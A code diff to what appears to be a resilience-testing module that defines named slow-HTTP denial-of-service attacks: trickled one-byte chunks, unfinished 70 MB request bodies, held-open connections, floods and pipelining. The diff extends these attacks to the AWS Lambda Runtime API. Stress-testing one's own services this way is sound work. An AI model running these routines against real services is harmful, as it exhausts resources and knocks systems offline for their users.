@@ -68,21 +68,32 @@ def chunks_to_api(end: float, _: Any) -> None:
 
 
 def chunks_to_runtime_api(end: float, context: Any) -> None:
-    path = f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response"
-    chunks(end, RUNTIME_API, path, 8)
+    chunks(end, RUNTIME_API, response_path(context), 8)
 
 
-def bodies(end: float, _: Any) -> None:
-    head = b"POST /tasks/v1/ HTTP/1.1\r\n" + _HOST + b"Content-Type: application/json\r\n"
+def bodies(end: float, address: tuple[str, int], path: str) -> None:
+    head = f"POST {path} HTTP/1.1\r\n".encode() + _HOST + b"Content-Type: application/json\r\n"
 
     def attempt() -> None:
-        with dial(TASK_SERVICE, end) as line:
+        with dial(address, end) as line:
             line.sendall(head + b"Content-Length: 100000000\r\n\r\n")
             for _ in range(70):
                 line.sendall(b" " * MEGABYTE)
             time.sleep(max(end - time.monotonic(), 0))
 
     again(end, attempt, 20)
+
+
+def bodies_to_api(end: float, _: Any) -> None:
+    bodies(end, TASK_SERVICE, "/tasks/v1/")
+
+
+def bodies_to_runtime_api(end: float, context: Any) -> None:
+    bodies(end, RUNTIME_API, response_path(context))
+
+
+def response_path(context: Any) -> str:
+    return f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response"
 
 
 def held(end: float, _: Any) -> None:
@@ -168,7 +179,8 @@ def spin(end: float, _: Any) -> None:
 ATTACKS: dict[str, Callable[[float, Any], None]] = {
     "one-byte chunks to the API": chunks_to_api,
     "one-byte chunks to the Runtime API, 8 connections": chunks_to_runtime_api,
-    "20 connections with 70 MB of an unfinished body": bodies,
+    "20 connections with 70 MB of an unfinished body, to the API": bodies_to_api,
+    "the same to the Runtime API": bodies_to_runtime_api,
     "128 connections held open, in the middle of a request": held,
     "a flood of calls, each by a connection of its own": calls,
     "pipelining on 4 connections": pipelining,
